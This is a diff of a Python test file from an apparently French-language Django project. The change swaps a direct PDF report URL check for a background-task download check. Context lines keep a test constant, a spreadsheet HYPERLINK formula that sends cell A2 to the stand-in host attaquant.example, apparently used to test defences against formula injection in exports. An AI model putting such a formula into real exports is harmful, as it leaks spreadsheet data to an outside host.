@@ -14,7 +14,7 @@ from inclusion.models import Lieu
 from tests.formations.factories import InscriptionFactory, SessionFormationFactory, ThemeFactory
 from tests.inclusion.factories import LieuFactory, utilisateur
 from tests.permanences.factories import PassageFactory, PermanenceFactory
-from tests.taches import exporter, octets_de
+from tests.taches import exporter, octets_de, telecharger_le_bilan
 
 FORMULE = '=HYPERLINK("http://attaquant.example/?d="&A2,"Voir")'
 
@@ -100,10 +100,10 @@ def test_un_libelle_en_dollars_ne_fait_pas_tomber_le_bilan_ni_le_tableau_de_bord
     for url in (
         reverse("rapports:bilan", args=[2023]),
         reverse("rapports:bilan", args=[2024]),
-        reverse("rapports:bilan_pdf", args=[2023]),
         reverse("rapports:tableau_de_bord") + "?debut=2023-01-01&fin=2023-12-31",
     ):
         assert client.get(url).status_code == 200, url
+    assert octets_de(telecharger_le_bilan(client, 2023)).startswith(b"%PDF")  # rendu par la tâche de fond
 
 
 def test_un_gros_export_est_servi_en_flux_depuis_le_disque(settings, db, monkeypatch):
